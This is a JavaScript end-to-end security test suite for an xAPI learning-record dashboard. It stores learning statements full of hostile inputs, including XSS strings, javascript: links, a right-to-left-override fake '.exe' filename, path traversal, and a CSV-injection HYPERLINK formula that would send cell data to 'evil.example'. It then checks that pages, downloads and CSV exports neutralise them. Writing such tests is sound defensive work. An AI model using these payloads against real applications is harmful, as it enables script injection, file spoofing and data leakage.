// Statements are written by others. Nothing in them is executed, on no page and in no file.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { after, before, test } from "node:test";

import { launch, open, waitUntilIdle } from "./browser.mjs";
import { call, setUp, startServer, store, until } from "./server.mjs";

const SCRIPT = "<img src=x onerror=\"window.executed=1\"><script>window.executed=1</script>";
const OVERRIDE = "invoice\u202Efdp.exe";
const FORMULA = "=HYPERLINK(\"https://evil.example/\"&A1)";
const HUGE = "x".repeat(20_000);
const COURSE = "http://adlnet.gov/expapi/activities/course";

const TEXTS = [SCRIPT, OVERRIDE, FORMULA, HUGE, "javascript:window.executed=1", "</script><svg/onload=window.executed=1>", "{{7*7}}${7*7}", "@SUM(A1)", "\u2066\u202D\u200Btext"];

const statements = TEXTS.map((text, index) => ({
  actor: { name: text.slice(0, 5_000), account: { homePage: "https://evil.example/", name: `${text.slice(0, 200)}${index}` } },
  verb: { id: `https://evil.example/verbs/${index}`, display: { en: text.slice(0, 5_000), "x-evil": text.slice(0, 100) } },
  object: {
    id: `https://evil.example/courses/${index}?javascript:alert(1)`,
    definition: { type: COURSE, name: { en: text }, description: { en: SCRIPT }, moreInfo: "https://evil.example/more" },
  },
  result: { success: true, response: text, extensions: { "https://evil.example/e": { [SCRIPT]: [text, SCRIPT] } } },
  context: { platform: SCRIPT, extensions: { "https://evil.example/link": "javascript:window.executed=1" } },
}));

const QUIZ = "https://evil.example/quiz";

/** Answers to questions whose names, options and responses are hostile. */
const answers = TEXTS.flatMap((text, index) =>
  Array.from({ length: 12 }, (_, learner) => ({
    actor: { name: text.slice(0, 200), account: { homePage: "https://evil.example/", name: `answering ${learner}` } },
    verb: { id: "http://adlnet.gov/expapi/verbs/answered", display: { en: text.slice(0, 200) } },
    object: {
      id: `${QUIZ}/q${index}`,
      definition: {
        type: "http://adlnet.gov/expapi/activities/cmi.interaction",
        name: { en: text },
        interactionType: "choice",
        choices: TEXTS.map((other, at) => ({ id: `c${at}`, description: { en: other.slice(0, 3_000) } })),
        correctResponsesPattern: ["c0"],
      },
    },
    result: { success: learner % 2 === 0, response: `c${learner % TEXTS.length}` },
    context: { contextActivities: { parent: [{ id: QUIZ }] } },
  })),
);

let server;
let browser;
let person;

before(async () => {
  server = await startServer();
  person = await setUp(server);
  const made = await call(server, person, "POST", "/tenants/1/credentials", { label: "<b>evil</b> & \u202E", scopes: ["all"] }).catch(() =>
    call(server, person, "POST", "/tenants/1/credentials", { label: "<b>evil</b>", scopes: ["all"] }),
  );
  const basic = Buffer.from(`${made.key}:${made.secret}`).toString("base64");
  await store(server, [...statements, ...answers], `Basic ${basic}`);
  await until("the facts are up to date", async () => (await call(server, person, "GET", "/tenants/1/facts")).lag === 0);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

/** Fails if something was executed, or a link leads to what is not of the web. */
async function checkHarmless(page, where) {
  assert.equal(await page.evaluate(() => window.executed), undefined, where);
  assert.equal(await page.locator("main img, main script, main iframe, main object, main svg [onload]").count(), 0, where);
  const links = await page.locator("a[href]").evaluateAll((all) =>
    all.map((link) => ({ href: link.href, rel: link.rel, isOwn: link.origin === window.location.origin })),
  );
  for (const { href, rel, isOwn } of links) {
    assert.match(href, /^https?:/, where);
    if (!isOwn) assert.match(rel, /noopener.*noreferrer/, `${where}: ${href}`);
  }
}

test("nothing of a statement is executed on any page", async () => {
  const { page, check, close } = await open(browser, server, { person });
  const ids = (await call(server, person, "GET", "/tenants/1/statements?limit=20")).items.map((item) => item.id ?? item.statement.id);
  const paths = [
    "overview?period=7d",
    "statements",
    "learners?period=7d",
    "activities?period=7d",
    ...["person", "verb", "object", "course", "platform", "response", "source"].flatMap((field) => [`explore?by=${field}&chart=bars`, `explore?by=${field}&chart=table`]),
    "explore?by=timestamp:day&split=response",
    "activities?period=7d&view=courses",
    "activities?period=7d&view=videos",
    "retention?by=day&period=7d",
    "quality?period=7d",
    "audit",
    "sources",
    "groups",
    `statements?q=${encodeURIComponent("evil")}&voided=true`,
    `statements?q=${encodeURIComponent(SCRIPT)}&where=${encodeURIComponent(JSON.stringify([`response~${SCRIPT.slice(0, 40)}`]))}`,
    ...statements.flatMap(({ actor, object }) => [
      `learner?id=${encodeURIComponent(JSON.stringify({ account: actor.account }))}`,
      `activity?id=${encodeURIComponent(object.id)}`,
    ]),
    ...statements.slice(0, 3).flatMap(({ object }) =>
      ["progress", "learners", "time", "groups", "structure"].map((tab) => `activity?id=${encodeURIComponent(object.id)}&tab=${tab}`),
    ),
    `activity?id=${encodeURIComponent(QUIZ)}`,
    `learner?id=${encodeURIComponent(`${SCRIPT}${OVERRIDE}`)}`,
    `activity?id=${encodeURIComponent(`${SCRIPT}${OVERRIDE}`)}`,
    ...ids.flatMap((id) => [`statements?s=${id}`, `statements?s=${id}&view=tree`, `statements?s=${id}&view=json`]),
  ];
  for (const path of paths) {
    await page.goto(`${server.origin}/t/1/${path}`);
    await page.getByRole("heading", { level: 1 }).waitFor();
    await waitUntilIdle(page);
    await checkHarmless(page, path);
  }
  check();
  await close();
});

/** Stores a statement with the content of its first attachment; of the second one there is only an address. */
async function storeAttached(content, name) {
  const sha2 = createHash("sha256").update(content).digest("hex");
  const attachment = (display, hash) => ({ usageType: "https://evil.example/usage", display: { en: display }, contentType: "text/html", length: content.length, sha2: hash });
  const said = {
    ...statements[0],
    attachments: [attachment(name, sha2), { ...attachment("Elsewhere", "0".repeat(64)), fileUrl: "javascript:window.executed=1" }],
  };
  const body = ["--of-a-test", "Content-Type: application/json", "", JSON.stringify(said), "--of-a-test", "Content-Type: text/html", "Content-Transfer-Encoding: binary", `X-Experience-API-Hash: ${sha2}`, "", content, "--of-a-test--", ""];
  const answer = await fetch(`${server.origin}/xapi/statements`, {
    method: "POST",
    headers: { Authorization: server.authorization, "Content-Type": "multipart/mixed; boundary=of-a-test", "X-Experience-API-Version": "2.0.0" },
    body: body.join("\r\n"),
  });
  if (!answer.ok) throw new Error(`${answer.status}: ${await answer.text()}`);
  return (await answer.json())[0];
}

test("an attachment is saved as a file with a harmless name, and nothing of it is executed", async () => {
  const id = await storeAttached(SCRIPT, `../${OVERRIDE}`);
  const { page, check, close } = await open(browser, server, { person });
  await page.goto(`${server.origin}/t/1/statements?s=${id}`);
  const drawer = page.getByRole("complementary", { name: "Statement" });
  const link = drawer.getByRole("link", { name: /^Download, \d+ bytes: / });
  await link.waitFor();
  await drawer.getByText("Its content is not stored here, but at this address.").waitFor();
  await checkHarmless(page, "the statement");
  const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
  assert.equal(download.suggestedFilename(), "invoicefdp.exe.bin");
  assert.equal(await readFile(await download.path(), "utf8"), SCRIPT);
  // Opened as a page, it is saved too.
  const other = await page.context().newPage();
  const [again] = await Promise.all([
    other.waitForEvent("download"),
    other.goto(new URL(await link.getAttribute("href"), server.origin).href).catch(() => undefined),
  ]);
  assert.equal(again.suggestedFilename(), "invoicefdp.exe.bin");
  assert.equal(other.url(), "about:blank");
  await checkHarmless(page, "the statement afterwards");
  check();
  await close();
});

test("characters that hide others are made visible", async () => {
  const { page, check, close } = await open(browser, server, { person });
  await page.goto(`${server.origin}/t/1/statements`);
  await page.locator(".hidden-char").getByText("U+202E").first().waitFor();
  const shown = await page.locator(".st-t").textContent();
  assert.ok(!shown.includes("\u202E"));
  check();
  await close();
});

test("no cell of a file is a formula", async () => {
  const { page, check, close } = await open(browser, server, { person });
  const exports = [
    ["statements", page.getByRole("button", { name: "Export CSV" })],
    ["statements?order=oldest", page.getByRole("button", { name: "Export CSV" })],
    ["learners?period=7d", page.getByRole("button", { name: "Export CSV" })],
    ["activities?period=7d", page.getByRole("button", { name: "Export CSV" })],
    [`activity?id=${encodeURIComponent(QUIZ)}`, page.getByRole("button", { name: "Options: export CSV" })],
    ["explore?by=response", page.getByRole("button", { name: "Export CSV" })],
  ];
  for (const [path, button] of exports) {
    await page.goto(`${server.origin}/t/1/${path}`);
    await page.locator("main table, main svg[role=img]").first().waitFor();
    const [download] = await Promise.all([page.waitForEvent("download"), button.first().click()]);
    const text = await readFile(await download.path(), "utf8");
    assert.ok(text.includes("HYPERLINK"), path);
    for (const cell of cellsOf(text)) assert.doesNotMatch(cell, /^[=+@\-|%\t]/, `${path}: ${cell.slice(0, 80)}`);
  }
  check();
  await close();
});

/** The cells of a CSV file, without their quotes. */
function cellsOf(text) {
  const cells = text.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain).filter((cell) => !/^-?[\d.]+$/.test(cell));
}
